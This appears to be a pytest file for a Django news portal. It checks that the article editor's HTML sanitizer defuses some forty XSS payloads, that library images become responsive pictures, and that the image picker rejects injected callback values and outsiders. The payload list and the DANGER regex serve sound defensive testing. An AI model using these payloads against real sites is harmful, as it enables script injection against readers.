"""The article body: what the editor writes, what the sanitizer lets through, pictures in it."""

import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from articles.models import Article, Image
from portal.lib.images import make_renditions
from tests.factories import article_form, make_article, make_image, make_section, picture_bytes

pytestmark = pytest.mark.django_db

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    '<a href="javascript:alert(1)">Klick</a>',
    '<a href="JaVaScRiPt:alert(1)">Klick</a>',
    '<a href="&#106;avascript:alert(1)">Klick</a>',
    '<a href="java\tscript:alert(1)">Klick</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Klick</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<svg onload="alert(1)"><circle r="10"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    '<p style="background:url(javascript:alert(1))">Stil</p>',
    '<div style="width: expression(alert(1))">Ausdruck</div>',
    "<style>body{display:none}</style>",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example"><input name="pw"></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<p onmouseover="alert(1)">Maus</p>',
    "<<script>script>alert(1)<</script>/script>",
    '<p><a href="https://ok.example" onclick="alert(1)">ok</a></p>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",  # noqa: E501
    '<details open ontoggle="alert(1)">x</details>',
    '<video><source onerror="alert(1)"></video>',
    '"><script>alert(1)</script>',
    "<!--<img src=x onerror=alert(1)>-->",
    '<a href="https://ok.example" target="_blank">neues Fenster</a>',
    # Superscript and subscript are allowed (issue 24, point 2), their attributes not.
    '<sup onmouseover="alert(1)" style="color:red">1</sup>',
    "<sub><script>alert(1)</script>2</sub>",
    '<sup><a href="javascript:alert(1)">1</a></sup>',
    # Tables, the info box and the video are allowed (issue 24, point 8), their
    # attributes only as the editor writes them; the video never as a frame.
    '<table onclick="alert(1)"><tr><td style="x" background="javascript:alert(1)">1</td></tr>'
    "</table>",
    '<table><tr><th scope="&quot; onmouseover=alert(1)">A</th></tr></table>',
    '<aside class="infobox" onmouseover="alert(1)" style="position:fixed">Info</aside>',
    '<aside class="evil"><script>alert(1)</script>Text</aside>',
    '<div data-video="youtube:dQw4w9WgXcQ" onload="alert(1)">'
    '<iframe src="https://evil.example"></iframe></div>',
    '<div data-video="youtube:javascript:alert(1)">x</div>',
    '<div data-video="vimeo:123" data-title="&lt;script&gt;alert(1)&lt;/script&gt;"></div>',
]
DANGER = re.compile(
    r"<script|<svg|<iframe|<object|<embed|<form|<meta|<base|<style|<math|<details|<video"
    r"|\son\w+\s*=|javascript:|data:|style=|target=",
    re.IGNORECASE,
)


def body_of(response):
    html = response.content.decode()
    return html[html.index('<div class="article__body">') : html.index("</article>")]


def test_the_admin_offers_the_rich_text_editor_with_our_picture_picker(editor_client):
    html = editor_client.get("/admin/articles/article/add/").content.decode()

    assert "data-django-prose-editor-configurable" in html
    assert "/admin/articles/image/auswahl/" in html
    assert "js/editor-de.js" in html


def test_no_payload_survives_into_the_public_page(chief_client, client):
    section = make_section("Politik", slug="politik")
    body = "".join(f"<p>Absatz {n}</p>{payload}" for n, payload in enumerate(XSS_PAYLOADS))

    response = chief_client.post(
        "/admin/articles/article/add/", article_form(section, status="published", body=body)
    )
    assert response.status_code == 302

    page = client.get(Article.objects.get().get_absolute_url())
    html = body_of(page)
    assert not DANGER.findall(html), DANGER.findall(html)
    assert "Absatz 29" in html  # the harmless text around the payloads is kept
    assert '<a href="https://ok.example" rel="noopener noreferrer">ok</a>' in html


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_each_payload_is_defused_when_saved(payload):
    article = make_article(body=payload)

    assert not DANGER.findall(article.body), (payload, article.body)


def test_kicker_headline_teaser_and_link_labels_are_text_not_html(client):
    article = make_article(
        kicker="<b>Ort</b>",
        headline='<img src=x onerror="alert(1)">',
        teaser="<script>alert(1)</script>",
        links=[('<script>alert("x")</script>', "https://ok.example")],
        tags=["<i>Stichwort</i>"],
    )

    html = client.get(article.get_absolute_url()).content.decode()

    assert "<script>alert" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert '<img src=x onerror="alert(1)">' not in html


def test_a_picture_from_our_library_becomes_a_responsive_picture():
    image = make_image(alt_text="Rathaus im Schnee")
    make_renditions(image)

    article = make_article(
        body=f'<figure class="figure"><img src="/irgendwo.jpg" alt="" data-file="{image.pk}">'
        "<figcaption>Das Rathaus</figcaption></figure>"
    )

    assert "<picture>" in article.body
    assert f'srcset="{image.webp_srcset}"' in article.body
    assert 'alt="Rathaus im Schnee"' in article.body  # the library's alt text fills the gap
    assert f'data-file="{image.pk}"' in article.body
    assert "<figcaption>Das Rathaus</figcaption>" in article.body
    assert "/irgendwo.jpg" not in article.body


def test_saving_again_keeps_the_picture():
    image = make_image()
    make_renditions(image)
    article = make_article(body=f'<figure><img src="x" data-file="{image.pk}"></figure>')
    first = article.body

    article.save()

    assert article.body == first


@pytest.mark.parametrize(
    "img",
    [
        # Not ours: readers' addresses would leak to a third party.
        '<img src="https://tracker.example/pixel.gif" alt="">',
        '<img src="/media/x.jpg" data-file="999999">',  # deleted meanwhile
        '<img src="/media/x.jpg" data-file="abc">',
    ],
)
def test_pictures_that_are_not_in_our_library_are_removed(img):
    article = make_article(body=f"<p>Text</p><figure>{img}<figcaption>weg</figcaption></figure>")

    assert article.body == "<p>Text</p>"


def test_the_picker_lists_pictures_for_the_editor(editor_client):
    image = make_image(caption="Rathaus Kiel")
    make_renditions(image)

    response = editor_client.get("/admin/articles/image/auswahl/?CKEditorFuncNum=1&q=Kiel")

    assert response.status_code == 200
    html = response.content.decode()
    assert f'data-id="{image.pk}"' in html
    assert f'data-url="{image.src}"' in html
    assert "js/image-picker.js" in html


def test_the_picker_uploads_a_picture_and_shows_it_first(editor_client):
    upload = SimpleUploadedFile("neu.jpg", picture_bytes("JPEG", size=(900, 600)))

    response = editor_client.post(
        "/admin/articles/image/auswahl/?CKEditorFuncNum=3",
        {"file": upload, "alt_text": "Neues Bild", "caption": "Neu"},
    )

    image = Image.objects.get()
    assert response.status_code == 302
    assert response["Location"].endswith(f"CKEditorFuncNum=3&neu={image.pk}")
    assert [w for w, _ in image.renditions["webp"]] == [480, 800, 900]


@pytest.mark.parametrize("callback", ["", "abc", "1);alert(1", "9999999999"])
def test_the_picker_needs_the_editors_callback_number(editor_client, callback):
    response = editor_client.get(f"/admin/articles/image/auswahl/?CKEditorFuncNum={callback}")

    assert response.status_code == 400


def test_the_picker_is_for_the_newsroom_only(client, ad_sales):
    assert client.get("/admin/articles/image/auswahl/?CKEditorFuncNum=1").status_code == 302
    client.force_login(ad_sales)
    assert client.get("/admin/articles/image/auswahl/?CKEditorFuncNum=1").status_code == 403
